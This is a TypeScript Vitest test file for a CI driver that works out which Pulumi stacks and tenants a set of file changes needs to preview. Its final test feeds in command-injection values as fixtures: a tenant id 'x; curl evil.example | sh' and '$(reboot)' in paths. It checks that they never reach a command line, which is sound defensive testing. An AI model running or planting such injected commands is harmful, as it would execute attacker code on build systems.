import { describe, expect, it } from "vitest";
import { previewMatrix, selectChangedStacks, type FileChange, type TenantIdReader } from "../../../tools/driver/changes";

const REGIONS = ["dev", "fsn1", "hel1"];
// Tenant ids as the files hold them on each side; a file not listed has the id of its name.
function ids(base: Record<string, string>, head: Record<string, string>): TenantIdReader {
    return (side, path) => (side === "base" ? base : head)[path];
}
const plain = ids({}, {});
const select = (changes: FileChange[], readId: TenantIdReader = plain) => selectChangedStacks(changes, REGIONS, readId);

describe("stacks a change touches", () => {
    it("a tenant file: only that tenant of its region", () => {
        const result = select([{ status: "M", path: "stacks/fsn1/projects/caracal.yaml" }]);
        expect(result.regions).toEqual([{ region: "fsn1", scope: "tenants", tenants: ["caracal"], removed: [], reasons: ["stacks/fsn1/projects/caracal.yaml: tenant caracal"] }]);
        expect(previewMatrix(result)).toEqual([{ stack: "fsn1", selection: "--tenant caracal" }]);
    });

    it("keys tenants on the id inside the file, not the file name", () => {
        const result = select([{ status: "M", path: "stacks/dev/projects/hello.yaml" }], ids({ "stacks/dev/projects/hello.yaml": "hello-app" }, { "stacks/dev/projects/hello.yaml": "hello-app" }));
        expect(result.regions[0]).toMatchObject({ region: "dev", tenants: ["hello-app"], removed: [] });
    });

    it("several tenant files in several regions: each region its own tenants", () => {
        const matrix = previewMatrix(
            select([
                { status: "M", path: "stacks/fsn1/projects/chain.yaml" },
                { status: "A", path: "stacks/fsn1/projects/new-shop.yml" },
                { status: "M", path: "stacks/hel1/projects/caracal.yaml" },
            ]),
        );
        expect(matrix).toEqual([
            { stack: "fsn1", selection: "--tenant chain --tenant new-shop" },
            { stack: "hel1", selection: "--tenant caracal" },
        ]);
    });

    it("a removed tenant file or a changed id: the old id is reported removed, nothing runs for it", () => {
        const deleted = select([{ status: "D", path: "stacks/dev/projects/overlay.yaml" }]);
        expect(deleted.regions).toEqual([{ region: "dev", scope: "tenants", tenants: [], removed: ["overlay"], reasons: ["stacks/dev/projects/overlay.yaml: tenant overlay removed (its stack becomes pending deletion)"] }]);
        expect(previewMatrix(deleted)).toEqual([]);
        const file = "stacks/dev/projects/hello.yaml";
        const newId = select([{ status: "M", path: file }], ids({ [file]: "hello" }, { [file]: "hello-two" }));
        expect(newId.regions[0]).toMatchObject({ tenants: ["hello-two"], removed: ["hello"] });
        // A rename of the file that keeps the id keeps the stack: nothing removed.
        const renamed = select([{ status: "R", from: "stacks/dev/projects/hello.yaml", path: "stacks/dev/projects/hi.yaml" }], ids({ [file]: "hello" }, { "stacks/dev/projects/hi.yaml": "hello" }));
        expect(renamed.regions[0]).toMatchObject({ tenants: ["hello"], removed: [] });
        // Moved to another region: removed from one, added to the other.
        const moved = select([{ status: "R", from: "stacks/fsn1/projects/chain.yaml", path: "stacks/hel1/projects/chain.yaml" }]);
        expect(moved.regions.map((r) => [r.region, r.tenants, r.removed])).toEqual([
            ["fsn1", [], ["chain"]],
            ["hel1", ["chain"], []],
        ]);
    });

    it("a region's stack config: its platform and every tenant of it", () => {
        const result = select([{ status: "M", path: "Pulumi.hel1.yaml" }, { status: "M", path: "stacks/hel1/projects/caracal.yaml" }]);
        expect(result.regions).toHaveLength(1);
        expect(result.regions[0]).toMatchObject({ region: "hel1", scope: "all", tenants: [] });
        expect(previewMatrix(result)).toEqual([{ stack: "hel1", selection: "--all" }]);
    });

    it.each(["index.ts", "programs/tenant/index.ts", "components/project/render.ts", "lib/tenants/schema.ts", "charts/versions.ts", "policy/rules/workloads.ts", "package-lock.json", "Pulumi.yaml", "tools/driver/orchestrate.ts"])(
        "program code (%s): every stack of every region",
        (file) => {
            expect(previewMatrix(select([{ status: "M", path: file }]))).toEqual(REGIONS.map((stack) => ({ stack, selection: "--all" })));
        },
    );

    it.each(["README.md", "test/tools/driver/region.test.ts", ".ci/run", ".github/workflows/platform.yml", "tools/offline/mock-engine.ts", "tools/bench.ts", "tools/logs.ts", "tools/logs/loki-client.ts", "vitest.config.mts"])("%s touches no stack", (file) => {
        const result = select([{ status: "M", path: file }]);
        expect(result.regions).toEqual([]);
        expect(result.ignored).toEqual([file]);
    });

    it("an unknown path previews everything, saying which path and where to classify it", () => {
        const result = select([{ status: "A", path: "scripts/rotate-keys.sh" }]);
        expect(previewMatrix(result)).toHaveLength(3);
        expect(result.regions[0]?.reasons).toEqual(["scripts/rotate-keys.sh: no rule knows this path, so every stack (add it to tools/driver/changes.ts)"]);
    });

    it("ignores tenant files and stack configs of regions that do not exist at the head", () => {
        const result = select([{ status: "D", path: "Pulumi.nbg1.yaml" }, { status: "D", path: "stacks/nbg1/projects/old.yaml" }]);
        expect(result.regions).toEqual([]);
        expect(result.ignored).toEqual(["Pulumi.nbg1.yaml", "stacks/nbg1/projects/old.yaml"]);
    });
});

describe("untrusted names", () => {
    it("never lets an id or a region that is not a plain name into the matrix", () => {
        const file = "stacks/dev/projects/x.yaml";
        const hostile = select([{ status: "M", path: file }], ids({}, { [file]: "x; curl evil.example | sh" }));
        expect(previewMatrix(hostile)).toEqual([{ stack: "dev", selection: "--all" }]);
        expect(hostile.regions[0]?.reasons).toContain("stacks/dev/projects/x.yaml: its id is not a valid project id, so every stack of dev (the catalog check reports the file)");
        const badName = select([{ status: "A", path: "stacks/dev/projects/$(reboot).yaml" }]);
        expect(previewMatrix(badName)).toEqual([{ stack: "dev", selection: "--all" }]);
        // A directory that is no region name matches no rule: every stack, never its name on a command line.
        const badRegion = select([{ status: "A", path: "stacks/$(reboot)/projects/a.yaml" }]);
        expect(previewMatrix(badRegion).map((m) => m.stack)).toEqual(REGIONS);
    });
});
